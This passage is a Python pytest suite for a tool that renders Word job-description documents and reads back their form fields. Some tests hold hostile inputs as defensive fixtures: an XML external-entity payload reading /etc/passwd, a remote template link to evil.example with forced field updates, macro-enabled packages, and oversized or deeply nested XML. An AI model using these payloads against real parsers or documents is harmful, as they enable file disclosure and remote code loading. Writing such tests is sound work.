"""Documents as Word files: what is in them, whose paper they are on, what comes back from a filled form."""

import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import replace
from io import BytesIO
from itertools import pairwise
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pytest
from docx.shared import Pt
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from coursewright.press.document import (
    Block,
    Column,
    Control,
    Document,
    Facts,
    Heading,
    Listing,
    Look,
    Mark,
    Paragraph,
    Run,
    Signatures,
    Spans,
    Table,
    Title,
)
from coursewright.press.picture import Picture
from coursewright.press.word import template as word_template
from coursewright.press.word.package import NotADocument, NotATemplate, controls, word
from coursewright.press.word.span import clean
from coursewright.press.word.stock import own_stock

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
LOOK = Look("#1D2B33", "#56646C", "#1B5A78", "#A8322A", "#8A5A00", "#8A949A", "#E2DED5", "#F7F5F0")
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108020000009077"
    "53de0000000c49444154789c63f8cfc0000003010100c9fe92ef0000000049454e44ae426082"
)

GRADE = Control(
    "grade", "职级", "manager", kind="choice", choices=(("specialist", "专员"), ("manager", "经理"))
)
BLOCKS: tuple[Block, ...] = (
    Title("园丁岗位说明书"),
    Facts(
        (
            (("岗位名称",), (Control("title", "岗位名称", "园丁"), " ", Mark("建议稿", "待确认"))),
            (("职级",), (GRADE,)),
            (("直接上级",), (Control("reports_to", "直接上级", hint="填写直接上级"),)),
            (("生效日期",), (Control("effective", "生效日期", "2026-11-23", kind="date"),)),
        ),
        frozenset({2}),
        "岗位",
    ),
    Heading(("职责", " ", Mark("建议稿", "待确认"))),
    Table(
        (Column(("职责",), 60), Column(("权重",), 40, "right")),
        (((Control("duties.1.text", "职责", "松土\n浇水\t施肥"),), ("60",)), (("剪枝",), ("40",))),
        "职责",
        tall=True,
    ),
    Table((Column(("一",), 1), Column(("二",), 1), Column(("三",), 1)), ((("1",), ("2",), ()),), "另一张表"),
    Heading(("清单",), 2),
    Listing((("带水壶",), ("带剪刀",)), "tick"),
    Listing((("第一步",), ("第二步",)), "number"),
    Listing((("再来",),), "number"),
    Listing((("要点",),)),
    Listing((("不踩苗",),), "cross"),
    Paragraph((Run("说明：", strong=True), "照此办理。")),
    Paragraph(("注意",), "note"),
    Paragraph(("一式三份",), "small"),
    Signatures(("任职人", "直接上级", "人力资源部", "见证人"), ("签字", "日期")),
)
DOCUMENT = Document(
    name="G-01-园丁-v1.0",
    title="园丁岗位说明书",
    subject="岗位说明书",
    author="园艺公司",
    language="zh-CN",
    date="2026-11-23",
    head=((Control("company", "单位名称", hint="填写单位名称"),), "G-01"),
    page="第 {page} 页 / 共 {pages} 页",
    look=LOOK,
    blocks=BLOCKS,
    keywords=("园丁", "G-01"),
)


def parts_of(raw: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def root_of(raw: bytes, name: str = "word/document.xml") -> etree._Element:
    return etree.fromstring(parts_of(raw)[name])


def with_blocks(*blocks: Block) -> Document:
    return replace(DOCUMENT, blocks=blocks, head=((), ""))


def text_of(element: etree._Element) -> str:
    return "".join(str(text) for text in element.itertext())


def value(element: etree._Element | None, name: str = "val") -> str:
    assert element is not None
    return element.get(W + name, "")


def styles_of(raw: bytes) -> dict[str, etree._Element]:
    return {value(style, "styleId"): style for style in root_of(raw, "word/styles.xml").iter(f"{W}style")}


def edited(raw: bytes, change: Callable[[etree._Element], None]) -> bytes:
    """The file as Word would save it after somebody changed the text."""
    parts = parts_of(raw)
    root = etree.fromstring(parts["word/document.xml"])
    change(root)
    return zipped({**parts, "word/document.xml": etree.tostring(root)})


def zipped(parts: dict[str, bytes]) -> bytes:
    output = BytesIO()
    with ZipFile(output, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return output.getvalue()


@pytest.fixture(scope="module")
def raw() -> bytes:
    return word(DOCUMENT)


# the package


def test_the_same_document_gives_the_same_bytes(raw: bytes) -> None:
    own_stock.cache_clear()
    assert word(DOCUMENT) == raw


def test_nothing_says_when_or_with_what_it_was_made(raw: bytes) -> None:
    with ZipFile(BytesIO(raw)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert archive.namelist()[0] == "[Content_Types].xml"
        assert archive.testzip() is None
    parts = parts_of(raw)
    assert not [
        name for name in parts if "thumbnail" in name or "custom" in name or name == "docProps/app.xml"
    ]
    assert not [name for name, content in parts.items() if b"python-docx" in content]


def test_python_docx_opens_it(raw: bytes) -> None:
    opened = docx.Document(BytesIO(raw))
    core = opened.core_properties
    assert [paragraph.style.name for paragraph in opened.paragraphs[:2] if paragraph.style] == [
        "Title",
        "Heading 1",
    ]
    assert (core.title, core.subject, core.author, core.keywords) == (
        "园丁岗位说明书",
        "岗位说明书",
        "园艺公司",
        "园丁, G-01",
    )
    assert (core.language, core.identifier, core.revision) == ("zh-CN", "G-01-园丁-v1.0", 1)
    assert core.created is not None
    assert core.created == core.modified
    assert core.created.isoformat() == "2026-11-23T00:00:00+00:00"


def test_a_date_that_is_none_is_left_out() -> None:
    core = parts_of(word(replace(DOCUMENT, date="2026-02-30")))["docProps/core.xml"].decode()
    assert "dcterms:created" not in core


def test_every_xml_part_is_well_formed_and_every_relationship_has_its_part(raw: bytes) -> None:
    parts = parts_of(word(replace(DOCUMENT, logo=Picture("png", PIXEL, 1, 1))))
    for name, content in parts.items():
        if name.endswith((".xml", ".rels")):
            root = etree.fromstring(content)
            if name.endswith(".rels"):
                folder = "" if name == "_rels/.rels" else "word/"
                assert [
                    target
                    for relation in root
                    if folder + (target := relation.get("Target", "").lstrip("/")) not in parts
                ] == []
    assert set(parts_of(raw)) == {
        name for name in parts if "logo" not in name and name != "word/_rels/header1.xml.rels"
    }


def test_word_is_asked_for_nothing_and_is_not_in_compatibility_mode(raw: bytes) -> None:
    settings = root_of(raw, "word/settings.xml")
    modes = [
        value(setting)
        for setting in settings.iter(f"{W}compatSetting")
        if value(setting, "name") == "compatibilityMode"
    ]
    assert modes == ["15"]
    assert settings.find(f"{W}updateFields") is None
    assert value(settings.find(f"{W}themeFontLang"), "eastAsia") == "zh-CN"


# language and styles


@pytest.mark.parametrize(
    ("language", "latin", "eastern", "font"),
    [
        ("zh-CN", "en-US", "zh-CN", "Microsoft YaHei"),
        ("zh", "en-US", "zh-CN", "Microsoft YaHei"),
        ("zh_TW", "en-US", "zh-TW", "Microsoft JhengHei"),
        ("en", "en-US", "zh-CN", "Microsoft YaHei"),
        ("de", "de", "zh-CN", "Microsoft YaHei"),
        ('"><x', "und", "zh-CN", "Microsoft YaHei"),
    ],
)
def test_language_and_east_asian_font_are_set(language: str, latin: str, eastern: str, font: str) -> None:
    defaults = root_of(word(replace(DOCUMENT, language=language)), "word/styles.xml").find(f"{W}docDefaults")
    assert defaults is not None
    lang, fonts = defaults.find(f".//{W}lang"), defaults.find(f".//{W}rFonts")
    assert (value(lang), value(lang, "eastAsia"), value(fonts, "eastAsia")) == (latin, eastern, font)
    assert value(fonts, "ascii") == value(fonts, "hAnsi") != ""


def test_headings_are_words_own_and_stay_with_what_follows(raw: bytes) -> None:
    styles, used = styles_of(raw), [value(style) for style in root_of(raw).iter(f"{W}pStyle")]
    for number in (1, 2):
        style = styles[f"Heading{number}"]
        assert value(style.find(f"{W}name")) == f"heading {number}"
        assert style.get(f"{W}customStyle") is None
        assert value(style.find(f"{W}pPr/{W}outlineLvl")) == str(number - 1)
        assert style.find(f"{W}pPr/{W}keepNext") is not None
        assert f"Heading{number}" in used
    assert set(used) <= styles.keys()


def test_a_colour_that_word_does_not_know_is_left_to_word() -> None:
    parts = parts_of(word(replace(DOCUMENT, look=replace(LOOK, primary='red"/>'))))
    styles = parts["word/styles.xml"]
    assert b'w:color w:val="auto"' in styles
    assert b"red" not in styles + parts["word/numbering.xml"]


def test_nothing_floats(raw: bytes) -> None:
    for name, content in parts_of(word(replace(DOCUMENT, logo=Picture("png", PIXEL, 1, 1)))).items():
        assert not re.search(rb"txbxContent|wp:anchor|w:pict|w:framePr", content), name


# blocks


def test_head_rows_repeat_and_no_row_splits(raw: bytes) -> None:
    rows = list(root_of(raw).iter(f"{W}tr"))
    assert len(rows) == 3 + 3 + 2 + 2
    assert all(row.find(f"{W}trPr/{W}cantSplit") is not None for row in rows)
    for table in root_of(raw).iter(f"{W}tbl"):
        heads = [row.find(f"{W}trPr/{W}tblHeader") is not None for row in table.iter(f"{W}tr")]
        assert heads == [
            value(table.find(f"{W}tblPr/{W}tblStyle")) == "DocumentTable",
            *([False] * (len(heads) - 1)),
        ]


def test_columns_fill_the_text_exactly(raw: bytes) -> None:
    for table in root_of(raw).iter(f"{W}tbl"):
        grid = [int(value(column, "w")) for column in table.iter(f"{W}gridCol")]
        assert sum(grid) == 11906 - 2 * 1077
        assert value(table.find(f"{W}tblPr/{W}tblLayout"), "type") == "fixed"
        for row in table.iter(f"{W}tr"):
            assert sum(int(value(width, "w")) for width in row.iter(f"{W}tcW")) == sum(grid)
            assert sum(int(value(span)) for span in row.iter(f"{W}gridSpan")) + len(
                row.findall(f"{W}tc")
            ) in (len(grid), len(grid) + 1)


def test_tables_say_what_is_in_them(raw: bytes) -> None:
    captions = [value(caption) for caption in root_of(raw).iter(f"{W}tblCaption")]
    assert (
        captions
        == [value(text) for text in root_of(raw).iter(f"{W}tblDescription")]
        == ["岗位", "职责", "另一张表", "签字"]
    )


def test_a_tall_table_has_room_to_write(raw: bytes) -> None:
    heights = [(value(height), value(height, "hRule")) for height in root_of(raw).iter(f"{W}trHeight")]
    assert heights == [("680", "atLeast")] * 2


def test_tables_do_not_touch_and_do_not_end_the_text(raw: bytes) -> None:
    body = root_of(raw)[0]
    tags = [etree.QName(child).localname for child in body]
    assert ("tbl", "tbl") not in pairwise(tags)
    assert tags[-2:] == ["p", "sectPr"]


def test_each_numbered_list_begins_at_one(raw: bytes) -> None:
    numbers = [value(number) for number in root_of(raw).iter(f"{W}numId")]
    assert [numbers[0], len(set(numbers))] == [numbers[1], 2]
    numbered = root_of(raw, "word/numbering.xml").iter(f"{W}num")
    starts = {value(num, "numId"): value(start) for num in numbered
              if (start := num.find(f".//{W}startOverride")) is not None}  # fmt: skip
    assert starts == dict.fromkeys(numbers, "1")


def test_bullets_and_crosses_are_real_lists(raw: bytes) -> None:
    levels = root_of(raw, "word/numbering.xml").iter(f"{W}lvl")
    signs = [value(level.find(f"{W}lvlText")) for level in levels if value(level, "ilvl") == "0"]
    assert signs == ["•", "%1.", "✕"]
    for style in ("ListBullet", "ListNumber", "DocumentCross"):
        assert styles_of(raw)[style].find(f"{W}pPr/{W}numPr/{W}numId") is not None


def test_signatures_stay_on_one_page(raw: bytes) -> None:
    first, last = list(root_of(raw).iter(f"{W}tbl"))[-1].iter(f"{W}tr")
    kept = [paragraph.find(f"{W}pPr/{W}keepNext") is not None for paragraph in first.iter(f"{W}p") if value(
        paragraph.find(f"{W}pPr/{W}pStyle")) == "DocumentDate"]  # fmt: skip
    assert kept == [True, True, True]
    assert len(last.findall(f"{W}tc")) == 3


def test_the_page_is_counted_in_the_readers_words(raw: bytes) -> None:
    footer = root_of(raw, "word/footer1.xml")
    assert text_of(footer) == "第 1 页 / 共 1 页"
    assert [value(field, "instr") for field in footer.iter(f"{W}fldSimple")] == [" PAGE ", " NUMPAGES "]


def test_the_logo_is_in_the_line_at_most_nine_millimetres_high() -> None:
    raw = word(replace(DOCUMENT, logo=Picture("png", PIXEL, 300, 100)))
    header = etree.tostring(root_of(raw, "word/header1.xml")).decode()
    assert f'cx="{27 * 36000}" cy="{9 * 36000}"' in header
    assert [picture.get("descr") for picture in root_of(raw, "word/header1.xml").iter("{*}docPr")] == [
        "园艺公司"
    ]
    assert parts_of(raw)["word/media/header1-logo.png"] == PIXEL
    wide = parts_of(word(replace(DOCUMENT, logo=Picture("jpeg", b"x", 1000, 10))))[
        "word/header1.xml"
    ].decode()
    assert f'cx="{60 * 36000}"' in wide


# controls


def keys(thing: Any) -> Iterator[str]:
    """The keys of all controls in the model."""
    if isinstance(thing, Control):
        yield thing.key
    elif isinstance(thing, tuple):
        for part in thing:
            yield from keys(part)
    elif hasattr(thing, "__dataclass_fields__"):
        for name in thing.__dataclass_fields__:
            yield from keys(getattr(thing, name))


def test_tags_are_the_keys_of_the_model(raw: bytes) -> None:
    found = [
        value(tag)
        for name in ("word/document.xml", "word/header1.xml")
        for tag in root_of(raw, name).iter(f"{W}tag")
    ]
    own = [*(f"tick.{number}" for number in (1, 2)), *(f"signature-date.{number}" for number in (1, 2, 3, 4))]
    assert sorted(found) == sorted([*keys(DOCUMENT), *own])


def test_ids_are_unique_positive_and_stay(raw: bytes) -> None:
    def ids(raw: bytes) -> dict[str, int]:
        controls = [
            control
            for name in ("word/document.xml", "word/header1.xml")
            for control in root_of(raw, name).iter(f"{W}sdtPr")
        ]
        return {value(control.find(f"{W}tag")): int(value(control.find(f"{W}id"))) for control in controls}

    first = ids(raw)
    assert len(set(first.values())) == len(first)
    assert all(0 < number < 2**31 for number in first.values())
    assert ids(word(replace(DOCUMENT, blocks=BLOCKS[3:]))).items() <= first.items()


def test_two_controls_of_one_key_have_two_ids() -> None:
    root = root_of(word(with_blocks(Paragraph((Control("a", "A", "1"), Control("a", "A", "2"))))))
    assert len({value(id) for id in root.iter(f"{W}id")}) == 2


def test_a_key_that_word_would_refuse_is_our_mistake() -> None:
    word(with_blocks(Paragraph((Control("k" * 64, "t" * 99),))))
    with pytest.raises(AssertionError):
        word(with_blocks(Paragraph((Control("k" * 65, "A"),))))


def test_an_untouched_form_says_what_the_model_says(raw: bytes) -> None:
    assert controls(raw) == [
        ("title", "园丁"),
        ("grade", "manager"),
        ("reports_to", ""),
        ("effective", "2026-11-23"),
        ("duties.1.text", "松土\n浇水\t施肥"),
        ("tick.1", "false"),
        ("tick.2", "false"),
        ("signature-date.1", ""),
        ("signature-date.2", ""),
        ("signature-date.3", ""),
        ("signature-date.4", ""),
        ("company", ""),
    ]


def test_a_date_is_shown_in_the_readers_way(raw: bytes) -> None:
    def shown(raw: bytes) -> str:
        return text_of(
            next(sdt for sdt in root_of(raw).iter(f"{W}sdt") if sdt.find(f"{W}sdtPr/{W}date") is not None)
        )

    assert shown(raw) == "2026年11月23日"
    assert shown(word(replace(DOCUMENT, language="en"))) == "2026-11-23"


def test_a_date_that_is_none_stays_what_it_is() -> None:
    raw = word(with_blocks(Paragraph((Control("d", "D", "2026-02-30", kind="date"),))))
    assert b"fullDate" not in parts_of(raw)["word/document.xml"]
    assert controls(raw) == [("d", "2026-02-30")]


def control_of(root: etree._Element, tag: str) -> etree._Element:
    return next(sdt for sdt in root.iter(f"{W}sdt") if value(sdt.find(f"{W}sdtPr/{W}tag")) == tag)


def refilled(tag: str, content: str, *, keep: bool = False) -> Callable[[etree._Element], None]:
    """Somebody typed: new runs in the control, and its placeholder is gone."""

    def change(root: etree._Element) -> None:
        control = control_of(root, tag)
        properties, inner = control.find(f"{W}sdtPr"), control.find(f"{W}sdtContent")
        assert properties is not None
        assert inner is not None
        for shown in [] if keep else properties.findall(f"{W}showingPlcHdr"):
            properties.remove(shown)
        inner[:] = etree.fromstring(f'<x xmlns:w="{W[1:-1]}">{content}</x>')

    return change


@pytest.mark.parametrize(
    ("tag", "content", "text"),
    [
        ("reports_to", "<w:r><w:t>主管</w:t></w:r>", "主管"),
        (
            "reports_to",
            "<w:r><w:rPr><w:b/></w:rPr><w:t>主</w:t></w:r><w:proofErr/><w:r><w:t>管</w:t></w:r>",
            "主管",
        ),
        ("title", "<w:r><w:t>一</w:t><w:br/><w:t>二</w:t></w:r>", "一\n二"),
        ("title", "<w:r><w:br/><w:t>二</w:t><w:cr/><w:t>三</w:t></w:r>", "\n二\n三"),
        ("title", "<w:p><w:r><w:t>一</w:t></w:r></w:p><w:p/><w:p><w:r><w:t>三</w:t></w:r></w:p>", "一\n\n三"),
        (
            "title",
            "<w:ins><w:r><w:t>新</w:t></w:r></w:ins><w:del><w:r><w:delText>旧</w:delText></w:r></w:del>",
            "新",
        ),
        (
            "title",
            "<w:moveFrom><w:r><w:t>旧</w:t></w:r></w:moveFrom>"
            "<w:r><w:t>A</w:t><w:noBreakHyphen/><w:tab/><w:t>B</w:t></w:r>",
            "A-\tB",
        ),
        (
            "title",
            "<w:r><w:ruby><w:rt><w:r><w:t>yuán</w:t></w:r></w:rt>"
            "<w:rubyBase><w:r><w:t>园</w:t></w:r></w:rubyBase></w:ruby></w:r>",
            "园",
        ),
        ("title", "", ""),
        ("grade", "<w:r><w:t>专员</w:t></w:r>", "specialist"),
        ("grade", "<w:r><w:t>总监</w:t></w:r>", "总监"),
    ],
)
def test_what_was_typed_comes_back(raw: bytes, tag: str, content: str, text: str) -> None:
    assert dict(controls(edited(raw, refilled(tag, content))))[tag] == text


def test_a_hint_is_no_answer(raw: bytes) -> None:
    assert (
        dict(controls(edited(raw, refilled("title", "<w:r><w:t>单击此处输入文字。</w:t></w:r>"))))["title"]
        != ""
    )
    assert (
        dict(controls(edited(raw, refilled("reports_to", "<w:r><w:t>单击此处</w:t></w:r>", keep=True))))[
            "reports_to"
        ]
        == ""
    )


def test_a_box_that_was_ticked_is_true(raw: bytes) -> None:
    def tick(root: etree._Element) -> None:
        for checked in control_of(root, "tick.2").iter("{*}checked"):
            checked.set("{http://schemas.microsoft.com/office/word/2010/wordml}val", "1")

    found = dict(controls(edited(raw, tick)))
    assert (found["tick.1"], found["tick.2"]) == ("false", "true")


def test_a_date_without_a_full_date_is_its_text(raw: bytes) -> None:
    def type_over(root: etree._Element) -> None:
        refilled("effective", "<w:r><w:t>下月</w:t></w:r>")(root)
        for date in control_of(root, "effective").iter(f"{W}date"):
            del date.attrib[f"{W}fullDate"]

    assert dict(controls(edited(raw, type_over)))["effective"] == "下月"


def test_a_row_copied_in_word_comes_twice(raw: bytes) -> None:
    def copy(root: etree._Element) -> None:
        row = next(
            row
            for row in root.iter(f"{W}tr")
            if row.find(f".//{W}sdt/{W}sdtPr/{W}tag[@{W}val='duties.1.text']") is not None
        )
        row.addnext(etree.fromstring(etree.tostring(row)))

    assert [tag for tag, _ in controls(edited(raw, copy))].count("duties.1.text") == 2


def test_a_control_around_paragraphs_is_read(raw: bytes) -> None:
    def wrap(root: etree._Element) -> None:
        block = (
            f'<w:sdt xmlns:w="{W[1:-1]}"><w:sdtPr><w:tag w:val="block"/></w:sdtPr><w:sdtContent>'
            "<w:p><w:r><w:t>a</w:t></w:r></w:p><w:p><w:r><w:t>b</w:t></w:r></w:p></w:sdtContent></w:sdt>"
        )
        root[0].insert(0, etree.fromstring(block))

    assert dict(controls(edited(raw, wrap)))["block"] == "a\nb"


def test_words_strict_format_is_read(raw: bytes) -> None:
    strict = {
        name: content.replace(W[1:-1].encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main").replace(
            b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
            b"http://purl.oclc.org/ooxml/officeDocument/relationships",
        )
        for name, content in parts_of(raw).items()
    }
    assert controls(zipped(strict)) == controls(raw)


LONE = st.characters(codec=None)
TEXT = st.text(
    st.one_of(st.characters(), LONE, st.sampled_from("<>&\"'\x00\x0b\x1f\ufffe\ud800\r\n\t ]]>")), max_size=40
)


@settings(deadline=None)
@given(TEXT, TEXT, TEXT)
def test_no_text_breaks_the_file(text: str, other: str, third: str) -> None:
    line: Spans = (
        text,
        Run(other, strong=True),
        Mark(text, other),
        Control("a", third, text, other),
        Control("b", text, "", third),
    )
    pick = Control("c", other, "stored", kind="choice", choices=(("stored", "shown"), (text, third)))
    blocks = (
        Title(text),
        Heading(line),
        Paragraph(line),
        Listing((line,), "tick"),
        Facts(((line, line),), title=text),
        Table((Column(line, 1),), ((line,),), other),
        Signatures((text, other), (third, text)),
        Paragraph((pick,)),
    )
    raw = word(
        Document(
            text,
            other,
            third,
            text,
            "zh-CN",
            other,
            (line, third),
            text + "{page}",
            LOOK,
            blocks,
            (third,),
            Picture("png", b"", 1, 1),
        )
    )
    for name, content in parts_of(raw).items():
        if name.endswith((".xml", ".rels")):
            etree.fromstring(content)
    found = controls(raw)
    assert {given for tag, given in found if tag == "a"} == {clean(text)}
    assert {given for tag, given in found if tag == "b"} == {""}


@settings(deadline=None)
@given(st.dictionaries(st.text("ab.1", min_size=1, max_size=9), TEXT, max_size=5), st.dates().map(str))
def test_values_come_back(values: dict[str, str], date: str) -> None:
    fields = [Control(key, key, given, "hint") for key, given in values.items()]
    raw = word(with_blocks(Paragraph((*fields, Control("z", "date", date, kind="date")))))
    assert controls(raw) == [*((key, clean(given)) for key, given in values.items()), ("z", date)]


# what is no form


def replaced(raw: bytes, content: bytes, name: str = "word/document.xml") -> bytes:
    return zipped({**parts_of(raw), name: content})


ENTITY = '<!DOCTYPE d [<!ENTITY e "x"><!ENTITY f SYSTEM "file:///etc/passwd">]><d>&e;&f;</d>'


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"<w:document",
        b"\xff\xfe",
        ENTITY.encode(),
        ENTITY.encode("utf-16"),
        b"<!DOCTYPE d SYSTEM 'x'><d/>",
    ],
)
def test_a_body_that_cannot_be_trusted_is_refused(raw: bytes, content: bytes) -> None:
    with pytest.raises(NotADocument):
        controls(replaced(raw, content))


def test_a_body_beyond_any_form_is_refused(raw: bytes) -> None:
    with pytest.raises(NotADocument):
        controls(replaced(raw, b"<d>" + b" " * (20 * 1024 * 1024) + b"</d>"))


def test_elements_without_end_are_refused(raw: bytes) -> None:
    with pytest.raises(NotADocument):
        controls(replaced(raw, b"<d>" * 5000 + b"</d>" * 5000))


@pytest.mark.parametrize(
    "broken", [b"", b"PK\x05\x06", b"\xd0\xcf\x11\xe0" * 200, b"%PDF-1.7", zipped({}), zipped({"a": b""})]
)
def test_what_is_no_docx_is_refused_as_form_and_as_template(broken: bytes) -> None:
    with pytest.raises(NotADocument):
        controls(broken)
    with pytest.raises(NotATemplate):
        word(DOCUMENT, broken)


def read_or_refused(raw: bytes) -> None:
    with suppress(NotADocument):
        controls(raw)
    with suppress(NotATemplate):
        word(DOCUMENT, raw)


@settings(deadline=None)
@given(st.integers(0, 10**6), st.binary(min_size=1, max_size=8))
def test_a_damaged_file_is_read_or_refused(at: int, noise: bytes) -> None:
    raw = word(DOCUMENT)
    at %= len(raw)
    read_or_refused(raw[:at] + noise + raw[at + len(noise) :])


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_a_file_with_a_strange_part_is_read_or_refused(data: st.DataObject) -> None:
    parts = parts_of(word(DOCUMENT))
    name = data.draw(st.sampled_from(sorted(parts)))
    words = re.findall(rb"[A-Za-z0-9]+", parts[name])
    old, new = (
        data.draw(st.sampled_from(words)),
        data.draw(st.sampled_from([*words, b"", b"-1", b"<", b"x:y"])),
    )
    read_or_refused(
        zipped({**parts, name: parts[name].replace(old, new, data.draw(st.sampled_from([1, -1])))})
    )
    read_or_refused(zipped({other: content for other, content in parts.items() if other != name}))


# a corporate template


def template(change: Callable[[Any], None] = lambda opened: None) -> bytes:
    opened = docx.Document()
    change(opened)
    output = BytesIO()
    opened.save(output)
    return output.getvalue()


def corporate(opened: Any) -> None:
    opened.sections[0].header.paragraphs[0].text = "ACME"
    opened.sections[0].left_margin = Pt(36)
    opened.styles["Heading 1"].font.size = Pt(20)
    paragraph = opened.add_paragraph("internal draft")
    opened.add_comment(paragraph.runs, "do not publish", "Jo")
    opened.core_properties.author = "Jo"


def test_a_templates_look_is_kept_and_its_text_is_not() -> None:
    raw = word(DOCUMENT, template(corporate))
    opened = docx.Document(BytesIO(raw))
    section = opened.sections[0]
    assert (section.header.paragraphs[0].text, section.left_margin) == ("ACME", Pt(36))
    assert opened.styles["Heading 1"].font.size == Pt(20)
    everything = b"".join(parts_of(raw).values())
    assert not [
        word for word in (b"internal draft", b"do not publish", b"Jo", b"python-docx") if word in everything
    ]
    assert opened.core_properties.author == "园艺公司"
    assert [tag for tag, _ in controls(raw)] == [
        tag for tag, _ in controls(word(DOCUMENT)) if tag != "company"
    ]


def test_a_template_lacks_nothing_that_is_used() -> None:
    raw = word(DOCUMENT, template(corporate))
    used = {value(style) for tag in ("pStyle", "rStyle", "tblStyle") for style in root_of(raw).iter(W + tag)}
    assert used <= styles_of(raw).keys()
    for table in root_of(raw).iter(f"{W}tbl"):
        assert sum(int(value(column, "w")) for column in table.iter(f"{W}gridCol")) == 12240 - 720 - 1800


def test_a_template_without_a_head_gets_ours() -> None:
    opened = docx.Document(BytesIO(word(replace(DOCUMENT, logo=Picture("png", PIXEL, 1, 1)), template())))
    section = opened.sections[0]
    assert section.header.paragraphs[0].text.strip().endswith("G-01")
    assert section.footer.paragraphs[0].text.startswith("第")


def test_a_template_with_an_empty_head_gets_ours() -> None:
    def change(opened: Any) -> None:
        opened.sections[0].header.is_linked_to_previous = False
        opened.sections[0].different_first_page_header_footer = True
        opened.settings.odd_and_even_pages_header_footer = True

    section = docx.Document(BytesIO(word(DOCUMENT, template(change)))).sections[0]
    for header in (section.header, section.first_page_header, section.even_page_header):
        assert header.paragraphs[0].text.strip().endswith("G-01")


def test_a_head_that_the_last_section_takes_over_is_kept() -> None:
    def change(opened: Any) -> None:
        corporate(opened)
        opened.add_section()

    raw = word(DOCUMENT, template(change))
    opened = docx.Document(BytesIO(raw))
    assert len(opened.sections) == 1
    assert opened.sections[0].header.paragraphs[0].text == "ACME"


def test_styles_are_known_by_their_names_because_chinese_word_numbers_them() -> None:
    def change(opened: Any) -> None:
        opened.styles["Heading 1"].element.set(f"{W}styleId", "1")
        opened.styles["Normal"].element.set(f"{W}styleId", "a")
        opened.styles["Title"].element.set(f"{W}styleId", "Heading2")
        opened.styles["Heading 2"].delete()

    raw = word(DOCUMENT, template(change))
    used = [value(style) for style in root_of(raw).iter(f"{W}pStyle")]
    styles = styles_of(raw)
    assert value(styles[used[0]].find(f"{W}name")) == "Title"
    assert "1" in used
    assert [identity for identity in used if value(styles[identity].find(f"{W}name")) == "heading 2"] == [
        "Heading20"
    ]
    assert value(styles["Heading20"].find(f"{W}basedOn")) == "a"


def test_a_template_calls_nothing_from_outside() -> None:
    def change(opened: Any) -> None:
        part = opened.settings.element
        rels = next(rel.target_part for rel in opened.part.rels.values() if rel.reltype.endswith("/settings"))
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        key = rels.relate_to("https://evil.example/x.dotm", f"{kind}/attachedTemplate", is_external=True)
        part.insert(
            0, etree.fromstring(f'<w:attachedTemplate xmlns:w="{W[1:-1]}" xmlns:r="{kind}" r:id="{key}"/>')
        )
        part.insert(0, etree.fromstring(f'<w:updateFields xmlns:w="{W[1:-1]}" w:val="true"/>'))

    parts = parts_of(word(DOCUMENT, template(change)))
    assert not [
        name for name, content in parts.items() if b"evil.example" in content or b"updateFields" in content
    ]


def test_a_template_is_opened_once_and_gives_the_same_bytes() -> None:
    raw = template(corporate)
    assert word(DOCUMENT, raw) == word(DOCUMENT, bytes(bytearray(raw)))


def test_a_document_of_ours_can_be_the_template(raw: bytes) -> None:
    again = word(replace(DOCUMENT, head=((), "G-02")), raw)
    assert "G-01" in text_of(root_of(again, "word/header1.xml"))
    assert len(styles_of(again)) == len(styles_of(raw))


def test_macros_are_refused() -> None:
    parts = parts_of(template())
    with pytest.raises(NotATemplate):
        word(DOCUMENT, zipped({**parts, "word/vbaProject.bin": b""}))
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    with pytest.raises(NotATemplate):
        word(DOCUMENT, zipped({**parts, "[Content_Types].xml": types}))


def test_a_template_that_unpacks_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(word_template, "MOST", 1000)
    with pytest.raises(NotATemplate):
        word(DOCUMENT, template(lambda opened: opened.add_paragraph("not seen before")))


# on paper


def typical() -> Document:
    """As much as a job description usually holds."""
    mark = Mark("建议稿", "待确认")

    def field(key: str, text: str) -> Spans:
        return (Control(key, key, text),)

    def table(title: str, shares: tuple[int, ...], cells: tuple[str, ...], rows: int) -> tuple[Block, Block]:
        columns = tuple(Column((f"第{at}列",), share) for at, share in enumerate(shares))
        lines = tuple(
            tuple(field(f"{title}.{row}.{at}", cell) for at, cell in enumerate(cells)) for row in range(rows)
        )
        return Heading((title, " ", mark)), Table(columns, lines, title)

    long = "分析所管客户的需求并维护重点客户，从中发现并落实新的业务机会。"
    facts = tuple((("项目名称",), (*field(f"fact.{at}", "按机构设置填写"), " ", mark)) for at in range(11))
    blocks = (
        Title("典型岗位说明书"),
        Facts(facts, frozenset({10}), "基本信息"),
        Heading(("岗位目的",)),
        Paragraph(field("purpose", long * 2)),
        *table("岗位职责", (6, 40, 44, 10), ("1", long, long + "每季度一次。", "25"), 8),
        Heading(("工作权限",)),
        Listing(tuple(field(f"authority.{at}", long) for at in range(5))),
        *table("工作关系", (10, 30, 60), ("内部", "风险评审人员", "提交调查材料，回应评审问题"), 7),
        *table("任职资格", (14, 52, 34), ("技能", "较强的沟通与语言表达能力。", "有相关工作经历。"), 5),
        *table("能力要求", (25, 15, 10, 25, 15, 10), ("风险防范与控制能力", "3 独立完成", "必备") * 2, 6),
        *table("绩效指标", (18, 43, 9, 10, 20), ("业务目标达成率", long, "20", "季度", "业务系统"), 5),
        Heading(("合规红线",)),
        Listing(tuple(field(f"redlines.{at}", long) for at in range(7)), "cross"),
        *table("培训要求", (30, 20, 30, 20), ("职业定位与职业素养", "到岗一个月内") * 2, 4),
